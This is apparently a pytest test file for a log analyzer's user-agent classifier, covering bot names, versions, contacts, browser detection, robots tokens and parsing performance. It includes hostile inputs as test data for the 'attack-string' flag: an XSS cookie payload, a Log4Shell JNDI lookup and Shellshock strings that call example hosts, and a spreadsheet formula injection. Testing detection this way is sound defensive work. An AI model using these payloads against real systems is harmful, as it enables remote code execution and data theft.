"""Names read out of user agents. Invented clients on example hosts, so that no list can know them."""

import time

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from loganalyzer.clients import BROWSER, FLAGS, UNDECLARED, classify, identify
from loganalyzer.clients.grammar import LIMIT
from loganalyzer.schema import AGENT

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36"
)
IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
    " Version/18.1 Mobile/15E148 Safari/604.1"
)
SITE = "https://crawl.example/about"

NAMED = [
    # user agent, token, version, contact
    (f"TidyBot/2.4 (+{SITE})", "TidyBot", "2.4", SITE),
    (f"Mozilla/5.0 (compatible; TidyBot/2.4; +{SITE})", "TidyBot", "2.4", SITE),
    (f"Mozilla/5.0 (compatible;TidyBot;+{SITE})", "TidyBot", None, SITE),
    (f"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Quarry/1.0; +{SITE})", "Quarry", "1.0", SITE),
    (f"{CHROME}; compatible; Quarry/1.0; +{SITE}", "Quarry", "1.0", SITE),
    (f"{CHROME} (compatible; Quarry/1.0; +{SITE})", "Quarry", "1.0", SITE),
    (f"{IPHONE} (Quarry/0.3; +{SITE})", "Quarry", "0.3", SITE),
    (f"{CHROME} QuarryWatch", "QuarryWatch", None, None),
    (f"Quarry Page Watch {CHROME}", "Quarry Page Watch", None, None),
    (f"Quarry Page Watch/3.1 (+{SITE}; ops@crawl.example)", "Quarry Page Watch", "3.1", SITE),
    ("Quarry/3 (ops@crawl.example)", "Quarry", "3", "ops@crawl.example"),
    ("Quarry/3 www.crawl.example", "Quarry", "3", "www.crawl.example"),
    ("quarry_2.6.2 ops@crawl.example", "quarry", "2.6.2", "ops@crawl.example"),
    ("Q17bot/v1.4", "Q17bot", "v1.4", None),
    ("crawl.example_bot", "crawl.example_bot", None, None),
    (f"http.rb/5.1.1 (Flockdon/4.2; +{SITE})", "Flockdon", "4.2", SITE),
    ("Python/3.13 aiohttp/3.11", "aiohttp", "3.11", None),
    (f"TidyBot/2.4 (+{SITE}) python-requests/2.32", "TidyBot", "2.4", SITE),
    (f"Quarry Reader - 12 subscribers - {SITE} (like FeedFetcher-Google)", "Quarry Reader", None, SITE),
    ("Mozilla/5.0 quarry/0.x", "quarry", "0.x", None),
    ("quarry/0.4 AI-Agent/claude", "quarry", "0.4", None),
    (f"TidyBot/1.0 (part of (nested (comments)) +{SITE}", "TidyBot", "1.0", SITE),
    (f"Mozilla/5.0 (Linux; Android 10; K; TidyBot/1.0; +{SITE}) AppleWebKit/537.36", "TidyBot", "1.0", SITE),
    ("Debian APT-HTTP/1.3 (3.0.2)", "Debian APT-HTTP", "1.3", None),
    ("quarry-1.4/Quarry-1.4 (extra)", "quarry", "1.4", None),
    (f"KDDI-QU31 UP.Browser/6.2.0.7 (GUI) MMP/2.0 (compatible; Quarry/mobile; +{SITE})", "Quarry", None, SITE),
    ("UNAVAILABLE-Fetch/UNAVAILABLE", "UNAVAILABLE-Fetch", None, None),
    # what only describes the product in front of it
    (f"Quarry/1.0 Podcast Sync ({SITE})", "Quarry", "1.0", SITE),
    (f"Quarry/1.0 RSS Harvest (+{SITE})", "Quarry", "1.0", SITE),
    ("Quarry/Quarry-1.18 (Web Crawler)", "Quarry", "Quarry-1.18", None),
    ("Quarry Machine/4.0 quarry.example (ops@quarry.example)", "Quarry Machine", "4.0", "ops@quarry.example"),
    # addresses that are written to be read by people alone, and sentences
    ("Mozilla/5.0 (compatible; quarrybot support [at] crawl [dot] com)", "quarrybot support", None, None),
    ("Quarry Page Walker 6 used by Somebody (ops@crawl.example)", "Quarry Page Walker", "6", "ops@crawl.example"),
    ("Quarry 'Giant Heap' 2023.05; https://crawl.example", "Quarry", "2023.05", "https://crawl.example"),
    ("Quarry Page 1.0 beta (+https://crawl.example)", "Quarry Page", "1.0", "https://crawl.example"),
    # the library, or what that runs on, is not who sends
    ("okhttp/4.12.0 Quarry/3.0", "Quarry", "3.0", None),
    ("curl/7.22.0 (i686) libcurl/7.22.0 OpenSSL/1.0.1 zlib/1.2 librtmp/2.3 zstd/1.5", "curl", "7.22.0", None),
    ("PycURL/7.45 libcurl/8.5.0 OpenSSL/3.0 zlib/1.3 libpsl/0.21 (+libidn2/2.3) libssh2/1.11", "PycURL", "7.45", None),
    ("python-requests/2.31.0 CPython/3.11 Linux/6.1", "python-requests", "2.31.0", None),
    (f"Quarry/2.9.1 Ruby/3.2.2p53 ({SITE})", "Quarry", "2.9.1", SITE),
    ("Quarry HttpClient (Curl)", "Quarry HttpClient", None, None),
    ("Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A) Quarry/3.0", "Quarry", "3.0", None),
    # a comment inside a comment does not take the contact away
    (
        f"Mozilla/5.0 (X11; U; Linux; rv:1.9; kind:Quarry (Q 3.1); {SITE}) Gecko/20100401 Firefox/3.0",
        "Quarry",
        None,
        SITE,
    ),
    ("Mozilla/5.0 (X11; Linux x86_64) Quarry/2.2", "Quarry", "2.2", None),  # no engine, so no browser
    ("Mozilla/5.0 (linux) AppleWebKit/537.36 (KHTML, like Gecko) jsdom/24.1.0", "jsdom", "24.1.0", None),
    (f"{CHROME} Cypress/13.6", "Cypress", "13.6", None),
    ("TidyBot/1.0+build.alpha", "TidyBot", "1.0+build.alpha", None),
    ("“TidyBot/1.0”", "TidyBot", "1.0", None),
    ("user_agent=TidyBot/1.0", "TidyBot", "1.0", None),
]


@pytest.mark.parametrize(("user_agent", "token", "version", "contact"), NAMED, ids=[row[0][:60] for row in NAMED])
def test_name_version_and_contact_are_read_where_they_stand(user_agent, token, version, contact):
    client = identify(user_agent)

    assert (client.token, client.version, client.contact) == (token, version, contact)
    assert client.automated


BROWSERS = [
    CHROME,
    IPHONE,
    f"{CHROME} Edg/140.0.0.0",
    f"{CHROME} UnheardOf/7.1",  # a versioned product behind a browser is what browsers and applications do
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; .NET CLR 3.5.30729)",
    "Mozilla/5.0 (compatible; Konqueror/4.9; Linux) KHTML/4.9.5 (like Gecko)",
    "Opera/9.80 (X11; Linux i686) Presto/2.12.388 Version/12.16",
    "Lynx/2.9.2 libwww-FM/2.14 OpenSSL/3.5.0",
    f"{IPHONE} (Quarry ios@9.2.3.1367)",  # no address
    f"{CHROME} QUARRYTV",  # capitals alone are a vendor's mark
    f"{CHROME} Quarry Web Browser",
    CHROME.removeprefix("Mozilla/5.0 "),
    "Mozilla/5.0 (Linux; U; Android 4.2; en-us; Java; MIDP-2.0) UCBrowser/9.5 Mobile",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.18025; Pro)",
    "QUARRY-X3/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1",
    f"{CHROME} Accelerated=true",  # "=" is no part of a token (RFC 9110 section 5.6.2)
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240105.004)",
    f"{CHROME} like Googlebot",
    f"{CHROME} quarry/commit 2014-02-16 6ee2b9e",  # a build, no name
    "QUARRY_MAUI WAP Browser",
    "QUARRY.KKT35+ (MAUI/KKT35;BDATE/2013/08/20;WAP Browser/MAUI (HTTPS)) WAP Browser/MAUI Profile/  Q03C1-2.40 en-US",
    "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0 Safari/537.36 WebAppManager",
    "HbbTV/1.5.1 (+DRM; Samsung; SmartTV2021:UAU7000; T-KSU2EDEUC-1402.5; KantSU2e;) Tizen/6.0",
    # phones whose model looks like a robot's name
    *(
        f"Mozilla/5.0 (Linux; Android 9; {model}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0 Safari/537.36"
        for model in ("CUBOT KING KONG", "XBot Senior", "C Bot Tab 80 Build/P00610", "BOT 77", "Crawler X9")
    ),
    "Mozilla/5.0 (Linux; Android 15; TR-1 Build/AP3A.240617.008) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/140.0.0.0 Mobile Safari/537.36",  # a build number that the second dictionary takes for a scanner
]


@pytest.mark.parametrize("user_agent", BROWSERS)
def test_browser_is_no_client_of_its_own(user_agent):
    client = identify(user_agent)

    assert (client.name, client.token, client.automated, client.kind) == (BROWSER, None, False, BROWSER)
    assert client.robots_tokens == ()


@pytest.mark.parametrize(
    "user_agent",
    [None, "", "  ", "-", "--", "_", '""', '"-"', "Mozilla/5.0", "Mozilla/5.0 (compatible)", "\x1b[0m", "Mozila/5.0"],
)
def test_empty_and_bare_values_are_undeclared_and_automated(user_agent):
    client = identify(user_agent)

    assert (client.name, client.token, client.automated, client.kind) == (UNDECLARED, None, True, UNDECLARED)


@pytest.mark.parametrize("form", ["{} +{}", "{} (+{})", "{}; {}"])
def test_browser_with_a_contact_is_automated_and_reachable_if_nameless(form):
    client = identify(form.format(CHROME, SITE))

    assert (client.name, client.automated, client.contact) == (UNDECLARED, True, SITE)


def test_link_of_an_add_on_makes_no_robot():
    assert identify("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; http://addon.example)").name == BROWSER


@pytest.mark.parametrize(
    "user_agent",
    [
        CHROME.replace("Mozilla", "Mozlila"),  # no browser misspells its own name
        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; http://crawl.example/bot.html )",
    ],
)
def test_browser_that_gives_itself_away_is_automated(user_agent):
    client = identify(user_agent)

    assert (client.name, client.token, client.automated) == (UNDECLARED, None, True)


FLAGGED = [
    ("Mozilla%2F5.0%20(compatible%3B%20TidyBot%2F2.4)", "TidyBot", {"encoded"}),
    (f"Mozilla/5.0+(compatible;+TidyBot/2.4;+{SITE})", "TidyBot", {"encoded"}),
    ('"TidyBot/2.4"', "TidyBot", {"quoted"}),
    (r"Mozilla/5.0 (compatible; \x22TidyBot\x22/2.4)", "TidyBot", {"quoted"}),
    (r"\"\"TidyBot/2.4\"\"", "TidyBot", {"quoted"}),
    ('"User-Agent: TidyBot/2.4"', "TidyBot", {"quoted"}),
    # a log's line forged: what follows the quote is no name, whoever it names
    (r"x\x22 200 9 \x22-\x22 \x22Googlebot", None, {"quoted"}),
    ('x" 200 9 "-" "Googlebot/2.1 (+http://www.google.com/bot.html)', None, {"quoted"}),
    (r"TidyBot/2.4\" 200 9 \"-\" \"Googlebot/2.1", "TidyBot", {"quoted"}),
    ('" 200 9 "-" "Googlebot"', None, {"quoted"}),
    ('" "Googlebot', None, {"quoted"}),
    ('" "Googlebot" "', None, {"quoted"}),
    ('"Googlebot', None, {"quoted"}),
    ('TidyBot/2.4"', "TidyBot", {"quoted"}),
    ('TidyBot/2.4 (a" 200 9 "-" "Googlebot/2.1)', "TidyBot", {"quoted"}),
    ('TidyBot/2.4 (; "Googlebot/2.1', "TidyBot", {"quoted"}),
    ("TidyBot/2.4%22%20200%209%20%22-%22%20%22Googlebot/2.1", "TidyBot", {"encoded", "quoted"}),
    (f"TidyBot/2.4 <script>alert(document.cookie)</script> (+{SITE})", "TidyBot", {"attack-string"}),
    ("${jndi:ldap://crawl.example/x}", None, {"attack-string"}),
    ("() { :; }; echo ready", None, {"attack-string"}),
    ("=cmd|' /C calc'!A0", None, {"attack-string"}),
    ("() { :;}; /bin/bash -c 'fetch http://x.example'", None, {"attack-string"}),
    ("TidyBot%252F2.4", "TidyBot", {"encoded"}),
    ("TidyBot/2.4 " + "x" * LIMIT, "TidyBot", {"truncated"}),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +https://rank.example/bot)", "Googlebot", {"foreign-contact"}),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot", set()),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://google.com.rank.example/)", "Googlebot", {"foreign-contact"}),
    (f"{IPHONE} facebookexternalhit/1.1 Facebot Twitterbot/1.0", "facebookexternalhit", {"several-identities"}),
    ("Google-Extended/1.0", "Google-Extended", {"control-only-token"}),
    (CHROME.replace("Chrome/", "HeadlessChrome/"), "HeadlessChrome", {"headless-browser"}),
]


@pytest.mark.parametrize(("user_agent", "token", "flags"), FLAGGED, ids=[row[0][:60] for row in FLAGGED])
def test_what_was_odd_is_flagged(user_agent, token, flags):
    client = identify(user_agent)

    assert client.token == token
    assert set(client.flags) == flags
    assert set(client.flags) <= FLAGS.keys()


ROBOTS = [
    ("Googlebot-Image/1.0", ("Googlebot-Image", "Googlebot"), True),
    ("Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)", ("Slurp",), False),
    ("Q17bot/1.0", ("Q17bot",), False),
    ("Tidy_Bot-x/1.0", ("Tidy_Bot-x",), True),
]


@pytest.mark.parametrize(("user_agent", "robots_tokens", "legal"), ROBOTS)
def test_robots_names_follow_the_operator_and_legality_the_rfc(user_agent, robots_tokens, legal):
    client = identify(user_agent)

    assert (client.robots_tokens, client.legal_token) == (robots_tokens, legal)


@pytest.mark.parametrize(
    ("user_agent", "kind", "purpose", "user_triggered"),
    [
        ("GPTBot/1.3", "crawler", "ai-training", False),
        ("ChatGPT-User/1.0", "user-triggered", "user-fetch", True),
        ("Quarry-User/1.0", "user-triggered", "user-fetch", True),  # the suffix is a hint for unknown names
        ("QuarryFeedReader/1.0", "feed-reader", "feed", None),
        ("QuarryUptime/1.0", "monitor", "monitoring", None),
        ("QuarryLinkPreview/1.0", "preview", "preview", None),
        ("quarry-scanner/1.0", "scanner", "security", None),
        ("QuarrySeoBot/1.0", "crawler", "seo", None),
        ("TidyBot/1.0", "crawler", None, None),
        ("Quarry/1.0", None, None, None),
        ("curl/8.10.1", "tool", None, None),
        ("python-requests/2.32.3", "library", None, False),
        ("okhttp/5.0.0", "library", None, False),
    ],
)
def test_trade_is_known_or_read_off_the_name_or_unknown(user_agent, kind, purpose, user_triggered):
    client = identify(user_agent)

    assert (client.kind, client.purpose, client.user_triggered) == (kind, purpose, user_triggered)


def test_classify_answers_each_value_in_order():
    values = [CHROME, None, "TidyBot/1.0", CHROME, ""]

    table = classify(pa.array(values))

    assert table.schema == AGENT
    assert table["user_agent"].to_pylist() == values
    assert table["client"].to_pylist() == [BROWSER, UNDECLARED, "TidyBot", BROWSER, UNDECLARED]
    assert classify(pa.array(values).dictionary_encode()).equals(table)
    assert classify(pa.array([], pa.string())).schema == AGENT


def test_spellings_that_differ_in_case_are_one_client():
    sent = ["tidybot/1", "TidyBot/2", "TIDYBOT/3", "GOOGLEBOT/2.1"]

    table = classify(pa.array(sent))

    assert table["client"].to_pylist() == ["tidybot", "tidybot", "tidybot", "Googlebot"]
    assert table["token"].to_pylist() == ["tidybot", "TidyBot", "TIDYBOT", "GOOGLEBOT"]


PIECES = st.sampled_from(
    [
        "Mozilla/5.0",
        "(",
        ")",
        ";",
        "compatible",
        "Android 9",
        "TidyBot/1.0",
        "+https://crawl.example/",
        "bot",
        " ",
        "\\x22",
    ]
)


@given(st.one_of(st.text(max_size=300), st.lists(PIECES, max_size=40).map(" ".join)))
def test_any_text_is_identified_within_the_contract(text):
    client = identify(text)

    assert client.name
    assert (client.kind == BROWSER) == (not client.automated)
    assert (client.token is None) == (client.name in (BROWSER, UNDECLARED)) == (client.robots_tokens == ())
    assert client.token is None or not any(ord(c) < 32 for c in client.token)
    assert set(client.flags) <= FLAGS.keys()


@given(st.text("abcdefghijklmnopqrstuvwxyz", min_size=5, max_size=12))
def test_a_robots_name_survives_every_usual_form(stem):
    name = f"{stem.capitalize()}Bot"

    for form in (
        "{}/1.0",
        "Mozilla/5.0 (compatible; {}/1.0; +https://crawl.example/)",
        CHROME + " (compatible; {}/1.0)",
    ):
        assert identify(form.format(name)).token == name


HOSTILE = ["a", " ", ";", "(", ")", "((a", "<", "<a ", "<script>", '"', "\\x22", "a@", "@a.", "www.", "http://", "a1.1"]
HOSTILE += [
    "Mozilla/5.0 (Linux; Android 4; ",
    "%20",
    "+http",
    "compatible; ",
    "bot/1 ",
    "\x1b[",
    "x/1.0(+http://a.example) ",
]


def _seconds(text):
    """The best of five; each begins with another character, so that no cache answers."""
    best = 9.0
    for mark in "12345":
        start = time.thread_time()
        identify(f"{len(text)}{mark}{text}")
        best = min(best, time.thread_time() - start)
    return best


@settings(max_examples=20, deadline=None)
@given(st.text(min_size=1, max_size=12))
def test_no_invented_repetition_costs_more_than_its_length(unit):
    short, long = (_seconds((unit * size)[:size]) for size in (8 * 1024, 64 * 1024))

    assert long <= 10 * max(short, 0.0005)


@pytest.mark.parametrize("unit", HOSTILE)
def test_no_repeated_text_costs_more_than_its_length(unit):
    short, long = (_seconds((unit * (size // len(unit) + 1))[:size]) for size in (8 * 1024, 64 * 1024))

    assert long <= 10 * max(short, 0.0002)
